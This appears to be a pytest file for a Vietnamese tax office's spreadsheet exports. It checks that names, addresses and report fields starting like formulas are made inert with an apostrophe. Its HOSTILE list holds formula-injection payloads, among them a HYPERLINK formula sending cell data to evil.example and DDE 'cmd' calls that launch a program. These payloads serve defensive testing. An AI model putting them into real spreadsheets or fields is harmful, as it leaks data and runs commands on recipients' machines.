"""No text the office writes into a spreadsheet can run as a formula: debt notices, the public debtor list, every
report as XLSX and CSV, built here with hostile names, addresses and parameters."""

import csv
import datetime
import io

import openpyxl
import pytest

from registry.models import Taxpayer
from taxoffice.arrears.debtors import Debtor, DebtorListing, debtors_workbook
from taxoffice.arrears.notices import notice_workbook
from taxoffice.documents.model import DebtLine
from taxoffice.reports.formats import render_csv
from taxoffice.reports.tables import Column, Kind, Report, Section
from taxoffice.reports.workbook import render_xlsx
from taxoffice.spreadsheet import FORMULA_STARTS, inert, inert_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def unsafe_cells(data: bytes) -> list[tuple[str, str, object]]:
    """Every cell of every sheet that is a formula, or text that starts like one."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found: list[tuple[str, str, object]] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value
                if cell.data_type == "f" or (isinstance(text, str) and text.startswith(FORMULA_STARTS)):
                    found.append((sheet.title, cell.coordinate, text))
    return found


def texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert inert_text(text) == "'" + text
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["Công ty TNHH An Bình", "0100000010", "", "a=b", "1-2", -5, 3, None])
def test_other_values_are_unchanged(value: object) -> None:
    assert inert(value) == value


def test_without_the_helper_openpyxl_writes_a_live_formula() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([HOSTILE[0], inert(HOSTILE[0])])
    assert sheet["A1"].data_type == "f"
    assert sheet["B1"].data_type == "s"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_debt_notice(hostile: str) -> None:
    taxpayer = Taxpayer(
        tax_code="0100000010",
        name=hostile,
        street=hostile,
        ward="+Phường",
        district="-Quận",
        province="@Tỉnh",
        tax_office="HNI",
        chapter="754",
    )
    line = DebtLine("VAT", "1701", "2026-01", "tax", datetime.date(2026, 2, 20), 40, 10_000_000, 120_000)
    data = notice_workbook(taxpayer, "TTN-1", datetime.date(2026, 4, 1), [line])
    assert unsafe_cells(data) == []
    assert "'" + hostile in texts(data)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_public_debtor_list(hostile: str) -> None:
    listing = DebtorListing(datetime.date(2026, 4, 1), 90, [Debtor("0100000010", hostile, 5_000_000, 120)])
    data = debtors_workbook(listing)
    assert unsafe_cells(data) == []
    assert "'" + hostile in texts(data)


def hostile_report(hostile: str) -> Report:
    columns = (Column("name", "Tên", "Name"), Column("amount", "Số tiền", "Amount", Kind.MONEY, total=True))
    section = Section("payers", "Người nộp", "Payers", columns, [(hostile, 1_000), ("An Bình", -5)])
    return Report(
        "payers",
        "Báo cáo",
        "Report",
        {"tax_office": hostile},
        datetime.datetime(2026, 4, 1, 8, 0, tzinfo=datetime.UTC),
        hostile,
        (section,),
    )


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("lang", ["vi", "en"])
def test_report_workbook(hostile: str, lang: str) -> None:
    data = render_xlsx(hostile_report(hostile), "en" if lang == "en" else "vi")
    assert unsafe_cells(data) == []
    assert "'" + hostile in texts(data)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_report_csv(hostile: str) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(hostile_report(hostile), "payers", "vi").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + hostile in cells
    assert "-5" in cells  # numbers stay numbers
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and cell != "-5"]
